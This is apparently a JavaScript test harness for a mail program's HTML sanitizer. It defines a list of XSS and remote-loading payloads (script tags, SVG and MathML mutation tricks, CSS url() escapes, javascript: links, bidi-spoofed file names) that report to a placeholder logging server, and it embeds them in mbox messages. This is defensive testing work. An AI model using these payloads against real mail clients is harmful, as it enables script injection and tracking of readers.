// Hostile HTML, one for each class of attack that has worked against a mail program. LOG is the address of a server
// that notes every request; RUN is JavaScript that asks it.

/** @type {Record<string, string>} */
const OWN = {
  script: '<script>RUN</script>',
  'script from elsewhere': '<script src="LOG/script.js"></script>',
  'event of an image': '<img src="data:," onerror="RUN">',
  'event without a click': '<body onload="RUN"><details open ontoggle="RUN">a</details><input autofocus onfocus="RUN">',
  'SVG with a script': '<svg><script>RUN</script></svg>',
  'SVG that animates a link': '<svg><a><animate attributeName="href" values="javascript:RUN" begin="0s"/><text>a</text></a><set attributeName="href" to="LOG/set" by="LOG/by"/></svg>',
  'SVG with remote parts': '<svg><image href="LOG/svg-image"/><use href="LOG/use#a"/><filter id="f"><feImage href="LOG/fe-image"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>',
  'SVG with a style': '<svg><style>@import "LOG/svg-import";</style></svg>',
  'MathML with a link': '<math><maction actiontype="statusline" xlink:href="javascript:RUN">a</maction><mglyph src="LOG/glyph"></mglyph></math>',
  'namespaces that part': '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">',
  CDATA: '<svg><![CDATA[><img src=x onerror=RUN>]]></svg>',
  'noscript read in two ways': '<noscript><p title="</noscript><img src=x onerror=RUN>">',
  template: '<template><img src="LOG/template" onerror="RUN"></template>',
  'image': '<img src="LOG/img"><img srcset="LOG/srcset 2x"><picture><source srcset="LOG/source"><img></picture>',
  'other elements that load': '<audio src="LOG/audio"></audio><video poster="LOG/poster" src="LOG/video"></video><embed src="LOG/embed"><object data="LOG/object"></object><input type="image" src="LOG/input">',
  'old attributes that load': '<table background="LOG/table"><tr><td background="LOG/td">a</td></tr></table><body background="LOG/body">',
  frame: '<iframe src="LOG/frame"></iframe><iframe srcdoc="<script>RUN</script>"></iframe><frameset><frame src="LOG/frameset"></frameset>',
  'link and base': '<base href="LOG/base/"><link rel="stylesheet" href="LOG/link"><link rel="prefetch" href="LOG/prefetch"><link rel="icon" href="LOG/icon"><img src="relative">',
  'moves the page away': '<meta http-equiv="refresh" content="0; url=LOG/refresh"><meta http-equiv="refresh" content="0; url=javascript:RUN">',
  'CSS with addresses': '<div style="background:url(LOG/url);list-style:url(\'LOG/list\');content:url(LOG/content);cursor:url(LOG/cursor),auto;border-image:url(LOG/border)">a</div>',
  'CSS with other ways to an address': '<style>@import url(LOG/import);@font-face{font-family:a;src:url(LOG/font)}p{font-family:a;background:image-set("LOG/image-set" 1x)}</style><p>a</p>',
  'CSS with escapes and comments': '<p style="background:\\75\\72\\6c(LOG/escaped);background:u/**/rl(LOG/comment)">a</p><p style="background:url(LOG/unclosed">b</p>',
  'CSS with variables': '<style>:root{--a:url(LOG/variable)}p{background:var(--a)}</style><p style="--b:url(LOG/own);background:var(--b)">a</p>',
  'CSS that covers the page': '<a href="LOG/click" style="position:fixed!important;inset:0;z-index:9999;display:block">a</a>',
  'CSS of old browsers': '<p style="behavior:url(LOG/behavior);-moz-binding:url(LOG/binding);width:expression(RUN)">a</p>',
  form: '<form action="LOG/form"><input name="a"><button formaction="LOG/button" id="go">a</button></form>',
  'address that is a script': '<a href="javascript:RUN">a</a><a href="&#1;java&#10;script:RUN">b</a><area href="javascript:RUN"><a href="data:text/html,<script>RUN</script>">c</a>',
  'names that the page might use': '<form id="maildex-app"><input name="attributes"><input id="results"></form><img name="body"><a id="defaultView">a</a>',
  'a ping': '<a href="#" ping="LOG/ping" id="pinged">a</a>',
  'comment that does not end': '<!--><img src=x onerror=RUN>--!><!-- --!><img src="LOG/comment-end">',
  'attributes without end': '<img src="LOG/unclosed-attribute title="\'><img src=\'x\' onerror="RUN"',
  'an element in a name': 'amy@a.example"><img src=x onerror=RUN>',
  'a link in plain text': 'https://a.example/"onmouseover="RUN" javascript:RUN http://a.example/<img src=LOG/plain>',
  'controls that turn text round': 'invoice\u202Efdp.exe\u2066<img src=LOG/bidi>\u0000\u001b[31m',
};

/** The vectors: name and payload, for a server at this address. */
export function vectors(log, suite) {
  const run = (name) => `(new Image).src='${log}/ran/${encodeURIComponent(name)}'`;
  const own = Object.entries(OWN).map(([name, html]) => [name, html.replaceAll('RUN', run(name)).replaceAll('LOG', log)]);
  // The suite's vectors raise alerts and name hosts of their own.
  const theirs = suite.map(({ payload }, idx) => [
    `suite ${idx}`,
    payload.replace(/\balert\s*(\([^()]*\)|`[^`]*`)/g, run(`suite ${idx}`)).replace(/https?:\/\/[\w.-]+/g, log),
  ]);
  return [...own, ...theirs].map(([name, payload]) => ({ name, payload }));
}

/** A mailbox with a message for each vector: in its HTML, text, subject, sender's name and the name of a file. */
export function mailbox(all) {
  return all.map(({ payload }, idx) => message(payload, idx)).join('');
}

function message(payload, idx) {
  const base64 = Buffer.from(payload, 'utf8').toString('base64');
  const word = (text) => text.match(/.{1,40}/gsu).map((part) => `=?utf-8?B?${Buffer.from(part).toString('base64')}?=`).join('\n ');
  const lines = (text) => text.replace(/.{1,76}/g, '$&\n');
  const day = new Date(Date.UTC(2001, 0, 1 + idx)).toUTCString().replace('GMT', '+0000');
  return `From a@a.example Mon Jan  1 00:00:00 2001
From: ${word(payload)} <sender${idx}@a.example>
To: reader@a.example
Subject: ${word(`planted ${idx} ${payload}`)}
Date: ${day}
Message-ID: <vector-${idx}@a.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=outer

--outer
Content-Type: multipart/alternative; boundary=inner

--inner
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: base64

${lines(Buffer.from(`planted ${payload}`, 'utf8').toString('base64'))}
--inner
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: base64

${lines(base64)}
--inner--
--outer
Content-Type: application/octet-stream
Content-Disposition: attachment; filename*=utf-8''${encodeURIComponent(payload).replace(/['()*!]/g, (c) => `%${c.charCodeAt(0).toString(16)}`)}
Content-Transfer-Encoding: base64

YQ==
--outer--

`;
}
